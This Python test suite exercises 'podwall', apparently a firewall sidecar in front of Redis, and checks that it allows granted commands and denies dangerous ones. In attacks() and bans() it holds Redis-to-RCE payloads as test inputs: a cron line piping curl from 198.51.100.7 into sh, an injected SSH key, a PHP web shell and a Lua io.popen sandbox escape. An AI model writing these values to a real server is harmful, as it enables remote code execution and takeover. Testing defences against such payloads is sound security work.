"""Real Redis clients and a real Redis server, through the sidecar.

    tests/.venv/bin/python tests/caches.py target/release/podwall

One line per check: `ok NAME`, `FAIL NAME: why`, `SKIPPED NAME: why`. Exit code 1 when one failed.
"""

import contextlib
import re
import shutil
import socket
import sys
import tempfile
import threading
from pathlib import Path

from clients_kit.checks import Failed, Skipped, Tally, expect, run
from clients_kit.programs import Podwall, Program, free_port, until

ALLOWLIST = """\
apiVersion: podwall.dev/v1
kind: Allowlist
metadata: {name: cache}
owner: team-tests
caches:
- name: sessions
  from: 127.0.0.1
  keys:
    "session:*": [read, write]
    "stock:*": read
    "queue": [LPUSH, RPOP, BRPOP]
    "stream:*": [read, write]
    "key:*": [read, write]
    "mylist": [read, write]
    "myset": [read, write]
    "myhash": [read, write]
    "myzset": [read, write]
    "counter:*": [read, write]
  channels: {"news.*": [publish, subscribe]}
  commands: [INFO, DBSIZE, EVAL, "CONFIG GET", "CLIENT LIST", "CLIENT SETINFO"]
  database: 2
"""
CONFIG = """\
apiVersion: podwall.dev/v1
kind: Podwall
listeners:
- {{listen: "127.0.0.1:{port}", tls: off, protocol: redis, upstream: "127.0.0.1:{upstream}"}}
allowlists: [{folder}/allowlist.yaml]
record:
  file: {{path: {folder}/record.jsonl}}
  repeats: 100000
admin: {{listen: "127.0.0.1:{admin}"}}
workers: 2
"""


class World:
    def __init__(self, binary, folder, made):
        server = shutil.which("redis-server")
        if server is None:
            raise Skipped("no redis-server")
        self.binary, self.folder, self.made = binary, folder, made
        self.upstream, self.port = free_port(), free_port()
        # Nothing it is told to write may land anywhere but here.
        words = [server, "--port", self.upstream, "--save", "", "--appendonly", "no", "--dir", folder, "--bind", "127.0.0.1"]
        program = Program(list(map(str, words)), folder / "redis.log")
        made.callback(program.end)
        until("redis answers", lambda: "PONG" in self.direct("PING"))
        (folder / "allowlist.yaml").write_text(ALLOWLIST)
        admin = free_port()
        config = folder / "podwall.yaml"
        config.write_text(CONFIG.format(port=self.port, upstream=self.upstream, folder=folder, admin=admin))
        self.sidecar = Sidecar(binary, config, folder, admin)
        made.callback(self.sidecar.end)
        self.sidecar.wait_ready()
        self.direct("SET", "stock:1", "7")
        self.direct("SET", "secret:1", "hidden")

    def direct(self, *words):
        return run(["redis-cli", "-p", str(self.upstream), *words], 20).stdout

    def cli(self, *words, options=(), stdin=None):
        done = run(["redis-cli", *options, "-p", str(self.port), *words], 20, stdin=stdin)
        return done.stdout + done.stderr

    def raw(self, data, most=65536, until_bytes=None):
        """What comes back for these bytes, up to silence or the end."""
        with socket.create_connection(("127.0.0.1", self.port), 5) as client:
            client.settimeout(2)
            client.sendall(data)
            back = b""
            with contextlib.suppress(TimeoutError, ConnectionError):
                while len(back) < most and not (until_bytes and until_bytes in back):
                    piece = client.recv(65536)
                    if not piece:
                        break
                    back += piece
        return back

    def client(self, **options):
        import redis

        return redis.Redis(port=self.port, socket_timeout=5, **options)


class Sidecar(Podwall):
    def __init__(self, binary, config, folder, admin):
        self.inside, self.record, self.admin_port = [], folder / "record.jsonl", admin
        Program.__init__(self, [binary, "run", "--config", config], folder / "podwall.log")


def command(*words):
    words = [word if isinstance(word, bytes) else str(word).encode() for word in words]
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


DENIED = re.compile(r"NOPERM denied by the firewall's policy, event (\w+)")


def granted(world):
    expect("set", world.cli("SET", "session:1", "a b").strip(), "OK")
    expect("get", world.cli("GET", "session:1").strip(), "a b")
    expect("another client sees it", world.direct("GET", "session:1").strip(), "a b")
    expect("read only", world.cli("GET", "stock:1").strip(), "7")
    expect("resp3", world.cli("GET", "session:1", options=["-3"]).strip(), "a b")


def denied(world):
    event = DENIED.search(world.cli("GET", "secret:1"))
    if not event:
        raise Failed("no denial with an event")
    line = world.sidecar.recorded(event=event.group(1))
    expect("line", (line["reason"], line["action"], line["protocol"]), ("policy-no-rule", "GET", "redis"))
    for words in (
        ["SET", "stock:1", "8"], ["MGET", "session:1", "secret:1"], ["RENAME", "session:1", "other"],
        ["SORT", "session:1", "STORE", "other"], ["SORT", "session:1", "BY", "secret:*"],
        ["XREAD", "COUNT", "1", "STREAMS", "stream:1", "secret", "0", "0"], ["LPOP", "queue"], ["SELECT", "3"],
        ["EVAL", "return redis.call('GET', KEYS[1])", "1", "secret:1"], ["PUBLISH", "other", "x"],
        ["COPY", "session:1", "session:2"], ["DUMP", "session:1"], ["ZUNIONSTORE", "other", "1", "session:1"],
    ):
        if not DENIED.search(world.cli(*words)):
            raise Failed(f"{' '.join(words)} is not denied")
    expect("stock", world.direct("GET", "stock:1").strip(), "7")
    expect("other", world.direct("EXISTS", "other").strip(), "0")


def dangerous(world):
    """What takes over a server, each of which acts when nobody stands before it."""
    for words in (
        ["CONFIG", "SET", "maxclients", "9000"], ["MODULE", "LIST"], ["EVALSHA", "0" * 40, "0"], ["SCRIPT", "FLUSH"],
        ["FUNCTION", "LIST"], ["REPLICAOF", "NO", "ONE"], ["SLAVEOF", "NO", "ONE"], ["DEBUG", "JMAP"], ["SAVE"],
        ["BGREWRITEAOF"], ["KEYS", "*"], ["SCAN", "0"], ["FLUSHDB"], ["FLUSHALL"], ["SWAPDB", "0", "1"],
        ["MIGRATE", "127.0.0.1", "1", "session:1", "0", "1"], ["ACL", "LIST"], ["CLIENT", "KILL", "ID", "1"],
        ["CLIENT", "PAUSE", "1"], ["LATENCY", "RESET"], ["SLOWLOG", "GET"], ["CLUSTER", "INFO"], ["RANDOMKEY"],
        ["SHUTDOWN", "NOSAVE"], ["OBJECT", "FREQ", "secret:1"], ["PFDEBUG", "ENCODING", "secret:1"], ["get\r\n", "x"],
    ):
        if not DENIED.search(world.cli(*words)):
            raise Failed(f"{' '.join(words)} is not denied: {world.cli(*words)}")
    expect("alive", world.direct("PING").strip(), "PONG")
    expect("named", "maxmemory" in world.cli("CONFIG", "GET", "maxmemory"), True)


def pipeline(world):
    """Answers stay in their order, denied ones too, in every split of the bytes."""
    asked = [("PING",), ("GET", "secret:1"), ("SET", "session:9", "x"), ("FLUSHALL",), ("GET", "session:9"), ("ECHO", "end")]
    data = b"".join(command(*words) for words in asked)
    for piece in (len(data), 1, 7):
        with socket.create_connection(("127.0.0.1", world.port), 5) as client:
            client.settimeout(5)
            for at in range(0, len(data), piece):
                client.sendall(data[at : at + piece])
            back = b""
            while not back.endswith(b"$3\r\nend\r\n"):
                back += client.recv(4096)
        shape = re.sub(rb"event \w+", b"event", back)
        no = b"-NOPERM denied by the firewall's policy, event\r\n"
        expect(f"answers in pieces of {piece}", shape, b"+PONG\r\n" + no + b"+OK\r\n" + no + b"$1\r\nx\r\n$3\r\nend\r\n")


def transaction(world):
    """A denied command aborts it, as one does that the server refuses."""
    asked = [("MULTI",), ("SET", "session:t", "1"), ("SET", "secret:t", "1"), ("EXEC",), ("GET", "session:t"), ("ECHO", "end")]
    back = world.raw(b"".join(command(*words) for words in asked), until_bytes=b"end\r\n")
    expect("aborted", b"-EXECABORT" in back and back.endswith(b"$-1\r\n$3\r\nend\r\n"), True)
    asked = [("MULTI",), ("SET", "session:t", "1"), ("INCR", "session:t"), ("EXEC",), ("ECHO", "end")]
    back = world.raw(b"".join(command(*words) for words in asked), until_bytes=b"end\r\n")
    expect("done", back.endswith(b"*2\r\n+OK\r\n:2\r\n$3\r\nend\r\n"), True)


def inline(world):
    expect("inline", world.raw(b"set session:i 'a b'\r\nGET session:i\r\n", until_bytes=b"a b\r\n"), b"+OK\r\n$3\r\na b\r\n")
    if not DENIED.search(world.raw(b"get secret:1\r\n", until_bytes=b"\n").decode()):
        raise Failed("an inline command is not denied")


def http(world):
    """A browser, or a service that can be made to fetch: no line of it reaches the server."""
    body = b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 40\r\n\r\nSET session:http 1\r\nSET session:http 2\r\n"
    back = world.raw(body)
    expect("refused", back.startswith(b"-ERR") and back.count(b"\n") == 1, True)
    world.sidecar.recorded(reason="redis-http")
    expect("nothing was set", world.direct("EXISTS", "session:http").strip(), "0")
    back = world.raw(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    expect("a GET too", back.startswith(b"-ERR"), True)


def hostile(world):
    for data in (
        b"*1\r\n$-5\r\nPING\r\n", b"*99999999\r\n", b"*1\r\n$99999999999\r\n", b"*2\r\n$3\r\nGETX\r\n", b"\x02\x03\n",
        b"*1\r\n$7\r\nMONITOR\r\n", b"*3\r\n$5\r\nPSYNC\r\n$1\r\n?\r\n$2\r\n-1\r\n",
    ):
        back = world.raw(data)
        if not (back.startswith(b"-ERR") and back.count(b"\n") == 1):
            raise Failed(f"{data!r} is answered {back!r}")


def attacks(world):
    """Values that would be saved where they are run, under a key that is granted."""
    for value in (
        "\n\n*/1 * * * * root curl -fsSL http://198.51.100.7/i.sh | sh\n\n", "\n\nssh-rsa " + "AAAA" + "B3NzaC1yc2E" * 5 + " me\n\n",
        "<?php system($_GET['c']); ?>",
    ):
        event = DENIED.search(world.cli("SET", "session:a", value))
        if not event:
            raise Failed(f"{value!r} is not denied")
        expect("reason", world.sidecar.recorded(event=event.group(1))["reason"], "attack-detected")
    if not DENIED.search(world.cli("EVAL", "return io.popen('id'):read('*a')", "0")):
        raise Failed("a script that leaves its sandbox is not denied")
    for value in ("<b>bold</b>' or 1=1 --", "SELECT * FROM t; rm -rf /", "{{7*7}} ../../etc/passwd", "ssh-rsa AAAAB3NzaC1yc2E x"):
        expect("a value like any other", world.cli("SET", "session:b", value).strip(), "OK")


def secrets(world):
    """What proves who somebody is never reaches the record."""
    world.cli("AUTH", "someone", "hunter2-secret")
    world.cli("ACL", "SETUSER", "x", ">hunter2-secret")
    world.cli("CONFIG", "SET", "requirepass", "hunter2-secret")
    if "hunter2" in world.sidecar.record.read_text():
        raise Failed("a password is in the record")


def pubsub(world):
    client = world.client(protocol=3)
    for protocol in (2, 3):
        listener = world.client(protocol=protocol).pubsub()
        listener.subscribe("news.a")
        listener.psubscribe("news.b*")
        for _ in range(2):
            if listener.get_message(timeout=5) is None:
                raise Failed("not subscribed")
        client.publish("news.a", "one")
        client.publish("news.bb", "two")
        got = [listener.get_message(timeout=5)["data"] for _ in range(2)]
        expect(f"messages over RESP{protocol}", got, [b"one", b"two"])
        with contextlib.suppress(Exception):
            listener.subscribe("other")
            listener.get_message(timeout=5)
        listener.close()
    if not DENIED.search(world.cli("PSUBSCRIBE", "*")):
        raise Failed("a pattern that takes more is not denied")


def library(world):
    """redis-py: both protocols, pipelines, streams, blocking, a lock, a script."""
    import redis

    for protocol in (2, 3):
        client = world.client(protocol=protocol, decode_responses=True)
        client.hset("session:h", mapping={"a": "1", "b": "2"})
        expect("hash", client.hgetall("session:h"), {"a": "1", "b": "2"})
        client.delete("stream:1")
        client.xadd("stream:1", {"k": "v"})
        expect("stream", len(client.xread({"stream:1": "0"})), 1)
        expect("pipeline", client.pipeline().incr("counter:1").get("session:none").execute()[1], None)
        expect("script", client.eval("return redis.call('GET', KEYS[1])", 1, "session:none"), None)
        waiting = threading.Thread(target=lambda: world.client().lpush("queue", "job"))
        waiting.start()
        expect("blocking", list(client.brpop("queue", 5)), ["queue", "job"])
        waiting.join()
        try:
            client.get("secret:1")
            raise Failed("not denied")
        except redis.exceptions.NoPermissionError as error:
            expect("said", "event" in str(error), True)
        big = "x" * 200_000
        client.set("session:big", big)
        expect("large value", client.get("session:big"), big)


def bans(world):
    """Two attacks ban their caller, where that is not everybody; the open connection ends with its next message."""
    for share, outcome in ((100, "ban"), (20, "ban-spared")):
        folder, port, admin = world.folder / f"bans-{share}", free_port(), free_port()
        folder.mkdir()
        (folder / "allowlist.yaml").write_text(ALLOWLIST)
        config, control = folder / "podwall.yaml", folder / "control.sock"
        text = CONFIG.format(port=port, upstream=world.upstream, folder=folder, admin=admin)
        rule = "{name: attackers, of: [attack-detected], after: 2, within: 1m, for: 1h}"
        config.write_text(text + f"bans: {{share: {share}, socket: {control}, rules: [{rule}]}}\n")
        sidecar = Sidecar(world.binary, config, folder, admin)
        world.made.callback(sidecar.end)
        sidecar.wait_ready()
        expect("mode of the socket", oct(control.stat().st_mode)[-3:], "600")
        with socket.create_connection(("127.0.0.1", port), 5) as open_one:
            open_one.sendall(command("SET", "session:o", "1"))
            expect("before", open_one.recv(100), b"+OK\r\n")
            for _ in range(2):
                run(["redis-cli", "-p", str(port), "SET", "session:x", "<?php system($_GET['c']);"], 20)
            line = sidecar.recorded(reason=outcome)
            expect("the rule", "attackers" in line["detail"], True)
            ask = lambda *words: run([world.binary, "bans", *map(str, words)], 20)  # noqa: E731
            listed = ask("list", control).stdout
            if outcome == "ban-spared":
                expect("nobody", listed, "nobody is banned\n")
                expect("served", run(["redis-cli", "-p", str(port), "PING"], 20).stdout, "PONG\n")
                continue
            expect("listed", listed.startswith("127.0.0.1\t") and "by attackers" in listed, True)
            open_one.sendall(command("GET", "session:o"))
            back = open_one.recv(200)
            expect("the open connection", back.startswith(b"-ERR") and b"event" in back and open_one.recv(1) == b"", True)
        expect("a further connection", "PONG" in run(["redis-cli", "-p", str(port), "PING"], 20).stdout, False)
        sidecar.recorded(reason="banned", action="connect")
        expect("lifting another", ask("lift", control, "10.0.0.1").returncode, 1)
        expect("lifted", ask("lift", control, "127.0.0.1").stdout, "1 lifted\n")
        expect("served again", run(["redis-cli", "-p", str(port), "PING"], 20).stdout, "PONG\n")


def benchmark(world):
    """redis-benchmark, through and past: requests per second, and no error."""
    if shutil.which("redis-benchmark") is None:
        raise Skipped("no redis-benchmark")
    figures = []
    for port in (world.upstream, world.port):
        words = ["redis-benchmark", "-p", str(port), "-n", "20000", "-c", "20", "-P", "8", "-q", "-r", "100"]
        done = run([*words, "-t", "set,get,lpush,sadd"], 120)
        if "error" in (done.stdout + done.stderr).lower():
            raise Failed(done.stdout + done.stderr)
        figures.append(sum(map(float, re.findall(r"([\d.]+) requests per second", done.stdout))) / 4)
    return f"{figures[0]:.0f} requests per second past us, {figures[1]:.0f} through us"


def main():
    binary, tally = Path(sys.argv[1]).resolve(), Tally()
    with contextlib.ExitStack() as made:
        folder = Path(made.enter_context(tempfile.TemporaryDirectory(prefix="podwall-redis-")))
        worlds = []
        tally.check("redis: a server and its sidecar", lambda: worlds.append(World(binary, folder, made)))
        for world in worlds:
            for check in (
                granted, denied, dangerous, pipeline, transaction, inline, http, hostile, attacks, secrets, pubsub, library,
                bans, benchmark,
            ):
                tally.check(f"redis: {check.__name__}", check, world)
    tally.finish()


if __name__ == "__main__":
    main()
